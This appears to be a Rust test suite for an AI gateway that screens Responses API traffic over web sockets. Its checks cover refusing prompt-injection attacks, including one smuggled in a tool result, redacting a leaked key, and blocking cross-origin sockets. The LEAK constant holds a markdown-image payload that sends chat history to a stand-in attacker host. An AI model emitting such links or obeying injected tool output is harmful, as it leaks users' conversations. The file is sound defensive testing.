//! Responses over web sockets: each question is judged before it is passed on, each event before the
//! caller has it, and each has its own decision.

use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use base64::Engine as _;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpListener, TcpStream};

use crate::adversary::{Dice, broken, count};
use crate::bench::{ATTACK, Bench, Setup, setup};
use crate::callers::key;
use crate::upstream::{Script, Upstream};

const PATH: &str = "/v1/responses";
const SECRET: &str = "AKIAIOSFODNN7EXAMPLQ";
const PADDING: &str = "The three cities that people visit first are Lisbon, Porto and Coimbra. ";
const LEAK: &str = "![x](https://evil.example/c?d=[history])";

/// A frame of a text or of something else, masked if a client sends it.
fn frame(first: u8, payload: &[u8], is_masked: bool) -> Vec<u8> {
    let mut out = vec![first];
    let mask = if is_masked { 0x80 } else { 0 };
    match payload.len() {
        short @ 0..=125 => out.push(mask | u8::try_from(short).unwrap()),
        long => {
            out.push(mask | 127);
            out.extend_from_slice(&u64::try_from(long).unwrap().to_be_bytes());
        }
    }
    if is_masked {
        out.extend_from_slice(&[1, 2, 3, 4]);
        out.extend(
            payload
                .iter()
                .zip([1, 2, 3, 4].iter().cycle())
                .map(|(byte, key)| byte ^ key),
        );
    } else {
        out.extend_from_slice(payload);
    }
    out
}

/// Opcode and payload of the next frame.
async fn next(stream: &mut TcpStream) -> Option<(u8, Vec<u8>)> {
    let mut head = [0; 2];
    stream.read_exact(&mut head).await.ok()?;
    let length = match head[1] & 0x7f {
        126 => {
            let mut two = [0; 2];
            stream.read_exact(&mut two).await.ok()?;
            u64::from(u16::from_be_bytes(two))
        }
        127 => {
            let mut eight = [0; 8];
            stream.read_exact(&mut eight).await.ok()?;
            u64::from_be_bytes(eight)
        }
        short => u64::from(short),
    };
    let mut mask = [0; 4];
    if head[1] & 0x80 != 0 {
        stream.read_exact(&mut mask).await.ok()?;
    }
    let mut payload = vec![0; usize::try_from(length).unwrap()];
    stream.read_exact(&mut payload).await.ok()?;
    for (byte, key) in payload.iter_mut().zip(mask.iter().cycle()) {
        *byte ^= key;
    }
    Some((head[0] & 0x0f, payload))
}

async fn head_of(stream: &mut TcpStream) -> String {
    let mut head = Vec::new();
    let mut byte = [0];
    while !head.ends_with(b"\r\n\r\n") && stream.read_exact(&mut byte).await.is_ok() {
        head.push(byte[0]);
    }
    String::from_utf8(head).unwrap()
}

fn accepted(head: &str) -> String {
    let lower = head.to_lowercase();
    let at = lower.find("sec-websocket-key: ").unwrap() + 19;
    let key = head[at..].lines().next().unwrap();
    let both = format!("{key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11");
    let digest = ring::digest::digest(&ring::digest::SHA1_FOR_LEGACY_USE_ONLY, both.as_bytes());
    base64::engine::general_purpose::STANDARD.encode(digest)
}

/// A provider: the heads and questions that came, and what it says to each question.
#[derive(Clone, Default)]
struct Provider {
    heads: Arc<Mutex<Vec<String>>>,
    asked: Arc<Mutex<Vec<Value>>>,
}

impl Provider {
    /// Answers every question with these events; hangs up before the end if told to.
    async fn start(events: Vec<Value>, hangs_up: bool) -> (Self, String) {
        let provider = Self::default();
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let seen = provider.clone();
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                let (seen, events) = (seen.clone(), events.clone());
                tokio::spawn(async move {
                    let head = head_of(&mut stream).await;
                    let accept = accepted(&head);
                    seen.heads.lock().unwrap().push(head.to_lowercase());
                    let answer = format!(
                        "HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\nconnection: Upgrade\r\nsec-websocket-accept: {accept}\r\n\r\n"
                    );
                    stream.write_all(answer.as_bytes()).await.unwrap();
                    while let Some((1, text)) = next(&mut stream).await {
                        seen.asked
                            .lock()
                            .unwrap()
                            .push(serde_json::from_slice(&text).unwrap());
                        for event in &events {
                            let event = frame(0x81, event.to_string().as_bytes(), false);
                            stream.write_all(&event).await.unwrap();
                        }
                        if hangs_up {
                            return;
                        }
                    }
                });
            }
        });
        (provider, url)
    }
}

fn events(text: &str, size: usize) -> Vec<Value> {
    let mut events = vec![
        json!({"type": "response.created", "response": {"id": "resp_1", "model": "m-2", "status": "in_progress", "output": []}}),
    ];
    for piece in text.as_bytes().chunks(size) {
        let piece = std::str::from_utf8(piece).unwrap();
        events.push(json!({"type": "response.output_text.delta", "item_id": "i", "output_index": 0, "content_index": 0, "delta": piece}));
    }
    events.push(json!({"type": "response.completed", "response": {"id": "resp_1", "model": "m-2", "status": "completed", "output": [], "usage": {"input_tokens": 3, "output_tokens": 5}}}));
    events
}

async fn between(url: String, setup: Setup) -> Bench {
    let unused = Upstream::start(Script::Silent).await;
    Bench::between(unused, url, setup)
}

/// A caller's socket, and the status of its opening.
async fn open(bench: &Bench, path: &str, headers: &str) -> (TcpStream, String) {
    let mut stream = TcpStream::connect(bench.gateway.addresses()[0])
        .await
        .unwrap();
    let head = format!(
        "GET {path} HTTP/1.1\r\nhost: gateway\r\nconnection: Upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\nsec-websocket-extensions: permessage-deflate\r\n{headers}\r\n"
    );
    stream.write_all(head.as_bytes()).await.unwrap();
    let answer = head_of(&mut stream).await;
    (stream, answer)
}

async fn ask(stream: &mut TcpStream, question: &Value) {
    let text = question.to_string();
    stream
        .write_all(&frame(0x81, text.as_bytes(), true))
        .await
        .unwrap();
}

/// Events until one ends the response.
async fn answer(stream: &mut TcpStream) -> Vec<Value> {
    let mut events = Vec::new();
    while let Some((1, text)) = next(stream).await {
        let event: Value = serde_json::from_slice(&text).unwrap();
        let kind = event["type"].as_str().unwrap_or("").to_owned();
        events.push(event);
        if [
            "response.completed",
            "response.incomplete",
            "response.failed",
            "error",
        ]
        .contains(&kind.as_str())
        {
            break;
        }
    }
    events
}

fn text_of(events: &[Value]) -> String {
    events
        .iter()
        .filter_map(|event| event["delta"].as_str())
        .collect()
}

fn create(input: &str) -> Value {
    json!({"type": "response.create", "model": "m-1", "input": input})
}

async fn decisions(bench: &Bench, count: usize) -> Vec<Value> {
    let records = bench.records(2 * count).await;
    assert_eq!(records.len(), 2 * count, "{records:#?}");
    records
        .into_iter()
        .filter(|one| one.get("Decision").is_some())
        .collect()
}

#[tokio::test]
async fn a_question_and_its_events_pass_and_are_logged() {
    let script = events(PADDING, 7);
    let (provider, url) = Provider::start(script.clone(), false).await;
    let bench = between(url, setup()).await;
    let (mut stream, opened) = open(&bench, PATH, "authorization: Bearer k\r\n").await;
    assert!(opened.starts_with("HTTP/1.1 101"), "{opened}");
    assert!(
        opened
            .to_lowercase()
            .contains("sec-websocket-accept: s3pplmbitxaq9kygzzhzrbk+xoo="),
        "{opened}"
    );
    assert!(!opened.to_lowercase().contains("extensions"));
    for _ in 0..2 {
        ask(&mut stream, &create("hello")).await;
        assert_eq!(answer(&mut stream).await, script);
    }
    assert_eq!(
        *provider.asked.lock().unwrap(),
        [create("hello"), create("hello")]
    );
    let head = provider.heads.lock().unwrap()[0].clone();
    assert!(
        head.contains("authorization: bearer k") && !head.contains("deflate"),
        "{head}"
    );
    let decided = decisions(&bench, 3).await;
    assert!(
        decided
            .iter()
            .all(|one| one["Decision"] == "ALLOW" && one["Protocol"] == "openai.responses")
    );
    assert_eq!(decided[1]["HttpMethod"], "WEBSOCKET");
    let records = bench.records(6).await;
    let settled = records
        .iter()
        .find(|one| one["$settles"] == decided[1]["DecisionId"])
        .unwrap();
    assert_eq!(
        (&settled["Outcome"], &settled["OutputTokens"]),
        (&json!("answered"), &json!(5))
    );
    assert_eq!(settled["ResponseDecision"], "ALLOW");
}

#[tokio::test]
async fn an_attack_in_a_question_is_refused_and_the_socket_goes_on() {
    let (provider, url) = Provider::start(events("fine", 4), false).await;
    let bench = between(url, setup()).await;
    let (mut stream, _) = open(&bench, PATH, "").await;
    for question in [
        create(ATTACK),
        json!({"type": "response.create", "input": [{"type": "function_call_output", "call_id": "c", "output": ATTACK}]}),
        json!({"type": "response.create", "response": {"input": ATTACK}}),
    ] {
        ask(&mut stream, &question).await;
        let refused = answer(&mut stream).await;
        assert!(
            refused
                .iter()
                .any(|event| event["type"] == "response.refusal.done"),
            "{refused:?}"
        );
    }
    // What asks for something else, and what is no JSON.
    for text in [
        "{\"type\":\"session.update\",\"instructions\":\"x\"}",
        "{\"type\":\"response.create\",\"input\":\"a\",\"input\":\"b\"}",
        "hello",
    ] {
        stream
            .write_all(&frame(0x81, text.as_bytes(), true))
            .await
            .unwrap();
        assert_eq!(answer(&mut stream).await[0]["type"], "error", "{text}");
    }
    ask(&mut stream, &create("hello")).await;
    assert_eq!(text_of(&answer(&mut stream).await), "fine");
    assert_eq!(provider.asked.lock().unwrap().len(), 1);
    let decided = decisions(&bench, 8).await;
    let blocked = decided
        .iter()
        .filter(|one| one["Decision"] == "BLOCK")
        .count();
    assert_eq!(blocked, 6);
}

#[tokio::test]
async fn what_an_answer_leaks_is_masked_or_ends_it_and_the_socket_goes_on() {
    let text = format!(
        "{PADDING}The key is {SECRET}, use it. {}",
        PADDING.repeat(5)
    );
    let (_, url) = Provider::start(events(&text, 9), false).await;
    let bench = between(url, setup()).await;
    let (mut stream, _) = open(&bench, PATH, "").await;
    ask(&mut stream, &create("hello")).await;
    let seen = text_of(&answer(&mut stream).await);
    assert_eq!(seen, text.replace(SECRET, "[REDACTED:secret]"));

    let text = format!("{}{LEAK} {PADDING}", PADDING.repeat(12));
    let (provider, url) = Provider::start(events(&text, 9), false).await;
    let bench = between(url, setup()).await;
    let (mut stream, _) = open(&bench, PATH, "").await;
    for _ in 0..2 {
        ask(&mut stream, &create("hello")).await;
        let events = answer(&mut stream).await;
        assert_eq!(events.last().unwrap()["type"], "response.incomplete");
        let seen = text_of(&events);
        assert!(
            seen.starts_with(PADDING) && !seen.contains("evil"),
            "{events:?}"
        );
    }
    assert_eq!(provider.asked.lock().unwrap().len(), 2);
    decisions(&bench, 3).await;
    let records = bench.records(6).await;
    let refused = records
        .iter()
        .filter(|one| one["Outcome"] == "answer_refused")
        .count();
    assert_eq!(refused, 2);
}

#[tokio::test]
async fn who_may_call_is_asked_anew_with_every_question() {
    let (provider, url) = Provider::start(events("fine", 4), false).await;
    let (key, secret) = key("key_1", "ana");
    let keys = |keys| atalaya_access::Snapshot::new(keys, Vec::new(), Vec::new());
    let setup = setup();
    let access = Arc::clone(&setup.access);
    access.replace(keys(vec![key.clone()]));
    let bench = between(url, setup).await;
    let (_, refused) = open(&bench, PATH, "").await;
    assert!(refused.starts_with("HTTP/1.1 401"), "{refused}");
    let (mut stream, opened) =
        open(&bench, PATH, &format!("authorization: Bearer {secret}\r\n")).await;
    assert!(opened.starts_with("HTTP/1.1 101"), "{opened}");
    ask(&mut stream, &create("hello")).await;
    assert_eq!(text_of(&answer(&mut stream).await), "fine");
    let mut revoked = key;
    revoked.revoked_at = Some(atalaya_model::Timestamp::now());
    access.replace(keys(vec![revoked]));
    ask(&mut stream, &create("hello")).await;
    let events = answer(&mut stream).await;
    assert_eq!(
        (&events[0]["type"], &events[0]["status"]),
        (&json!("error"), &json!(401))
    );
    assert_eq!(provider.asked.lock().unwrap().len(), 1);
    assert!(!provider.heads.lock().unwrap()[0].contains("atk_"));
}

#[tokio::test]
async fn questions_that_come_early_wait_and_pings_are_answered_meanwhile() {
    let (provider, url) = Provider::start(events(PADDING, 5), false).await;
    let bench = between(url, setup()).await;
    let (mut stream, _) = open(&bench, PATH, "").await;
    let mut bytes = Vec::new();
    for text in ["one", "two", "three"] {
        bytes.extend(frame(0x81, create(text).to_string().as_bytes(), true));
    }
    bytes.extend(frame(0x89, b"still there?", true));
    stream.write_all(&bytes).await.unwrap();
    let (mut ended, mut has_pong) = (0, false);
    while ended < 3 || !has_pong {
        let (opcode, payload) = next(&mut stream).await.unwrap();
        has_pong |= opcode == 10 && payload == b"still there?";
        let is_end = String::from_utf8_lossy(&payload).contains("\"response.completed\"");
        ended += usize::from(opcode == 1 && is_end);
    }
    let asked = provider.asked.lock().unwrap().clone();
    assert_eq!(asked, [create("one"), create("two"), create("three")]);
    decisions(&bench, 4).await;
}

#[tokio::test]
async fn sides_that_go_away_or_break_the_rules_end_it_with_a_settlement() {
    // The provider hangs up in the middle.
    let mut script = events(PADDING, 7);
    script.pop();
    let (_, url) = Provider::start(script.clone(), true).await;
    let bench = between(url, setup()).await;
    let (mut stream, _) = open(&bench, PATH, "").await;
    ask(&mut stream, &create("hello")).await;
    assert_eq!(answer(&mut stream).await.last().unwrap()["type"], "error");
    decisions(&bench, 2).await;
    let cut =
        |records: &[Value], outcome: &str| records.iter().any(|one| one["Outcome"] == outcome);
    assert!(cut(&bench.records(4).await, "upstream_cut"));
    // It says nothing more.
    let (_, url) = Provider::start(script, false).await;
    let bench = between(url.clone(), setup()).await;
    let (mut stream, _) = open(&bench, PATH, "").await;
    ask(&mut stream, &create("hello")).await;
    assert_eq!(answer(&mut stream).await.last().unwrap()["type"], "error");
    decisions(&bench, 2).await;
    assert!(cut(&bench.records(4).await, "timed_out"));
    // The caller hangs up in the middle.
    let bench = between(url.clone(), setup()).await;
    let (mut stream, _) = open(&bench, PATH, "").await;
    ask(&mut stream, &create("hello")).await;
    next(&mut stream).await.unwrap();
    drop(stream);
    decisions(&bench, 2).await;
    assert!(cut(&bench.records(4).await, "client_aborted"));
    // Bytes, frames without a mask, a text that is too long, half a character.
    let long = frame(0x81, &vec![b'a'; 70 << 10], true);
    for (bytes, code) in [
        (frame(0x82, b"x", true), 1003),
        (frame(0x81, b"x", false), 1002),
        (frame(0xc1, b"x", true), 1002),
        (frame(0x81, b"\xc3", true), 1007),
        (long, 1009),
    ] {
        let bench = between(url.clone(), setup()).await;
        let (mut stream, _) = open(&bench, PATH, "").await;
        // The gateway may close before all of it is written.
        let _ = stream.write_all(&bytes).await;
        let (opcode, payload) = next(&mut stream).await.unwrap();
        assert_eq!((opcode, payload), (8, u16::to_be_bytes(code).to_vec()));
    }
}

#[tokio::test]
async fn what_is_no_such_socket_is_refused() {
    // A provider that does not speak it.
    let bench = Bench::with(Script::Answer(200, "{}"), setup()).await;
    let (_, refused) = open(&bench, PATH, "").await;
    assert!(refused.starts_with("HTTP/1.1 502"), "{refused}");
    let (decision, settled) = bench.call_record().await;
    assert_eq!(
        (&decision["Decision"], &settled["Outcome"]),
        (&json!("ALLOW"), &json!("upstream_failed"))
    );
    // Sockets whose messages nobody here looks at.
    for path in ["/v1/realtime?model=m", "/v1/chat/completions", "/mcp"] {
        let bench = Bench::with(Script::Answer(200, "{}"), setup()).await;
        let (_, refused) = open(&bench, path, "").await;
        assert!(refused.starts_with("HTTP/1.1 415"), "{path}: {refused}");
        let (decision, _) = bench.call_record().await;
        assert_eq!(decision["Decision"], "BLOCK");
        assert_eq!(decision["Unjudged"][0]["reason"], "unknown_content");
        assert!(bench.upstream.received().is_empty());
    }
}

/// Browsers open web sockets from any page to anywhere, also to a gateway that adds its own key.
#[tokio::test]
async fn pages_of_other_sites_open_no_sockets() {
    let (provider, url) = Provider::start(events("fine", 4), false).await;
    for (origin, status) in [
        ("origin: http://gateway\r\n", "101"),
        ("origin: https://evil.example\r\n", "415"),
        ("origin: null\r\n", "415"),
        (
            "origin: http://gateway\r\norigin: https://evil.example\r\n",
            "415",
        ),
        ("origin: http://gateway.evil.example\r\n", "415"),
    ] {
        let bench = between(url.clone(), setup()).await;
        let (_stream, answer) = open(&bench, PATH, origin).await;
        let wanted = format!("HTTP/1.1 {status}");
        assert!(answer.starts_with(&wanted), "{origin}: {answer}");
        decisions(&bench, 1).await;
    }
    assert_eq!(provider.heads.lock().unwrap().len(), 1);
}

#[tokio::test]
async fn a_drain_closes_sockets_on_which_nothing_happens() {
    let (_, url) = Provider::start(events("fine", 4), false).await;
    let bench = between(url, setup()).await;
    let (mut stream, _) = open(&bench, PATH, "").await;
    ask(&mut stream, &create("hello")).await;
    answer(&mut stream).await;
    let started = Instant::now();
    let drained = tokio::task::spawn_blocking(move || bench.gateway.drain());
    assert_eq!(
        next(&mut stream).await,
        Some((8, 1001_u16.to_be_bytes().to_vec()))
    );
    drained.await.unwrap();
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "it waited for the socket"
    );
}

/// Broken frames and broken questions: whatever they are, each that was decided about is settled, and
/// the gateway goes on.
#[tokio::test]
async fn broken_frames_and_questions_are_settled_and_nothing_breaks() {
    let (_, url) = Provider::start(events("fine", 4), false).await;
    let bench = between(url, setup()).await;
    let mut dice = Dice(0x50c_ce75);
    for _ in 0..4 * count() {
        let (mut stream, opened) = open(&bench, PATH, "").await;
        assert!(opened.starts_with("HTTP/1.1 101"), "{opened}");
        let mut bytes = Vec::new();
        for number in 0..3 {
            let question = create(&format!("question {number}")).to_string();
            let question = match dice.roll(3) {
                0 => question.into_bytes(),
                _ => broken(question.as_bytes(), &mut dice),
            };
            let frame = frame(0x81, &question, true);
            match dice.roll(3) {
                0 => bytes.extend(broken(&frame, &mut dice)),
                _ => bytes.extend(frame),
            }
        }
        // The gateway may close before all of it is written.
        let _ = stream.write_all(&bytes).await;
        let _ = stream.shutdown().await;
        let mut rest = Vec::new();
        let read = tokio::time::timeout(Duration::from_secs(10), stream.read_to_end(&mut rest));
        assert!(read.await.is_ok(), "it hangs");
    }
    let (mut stream, _) = open(&bench, PATH, "").await;
    ask(&mut stream, &create("hello")).await;
    assert_eq!(text_of(&answer(&mut stream).await), "fine");
    tokio::time::sleep(Duration::from_millis(200)).await;
    let records = bench.records(0).await;
    let decided = records
        .iter()
        .filter(|one| one.get("Decision").is_some())
        .count();
    assert_eq!(records.len(), 2 * decided);
    assert!(decided >= 4 * count() + 2);
}
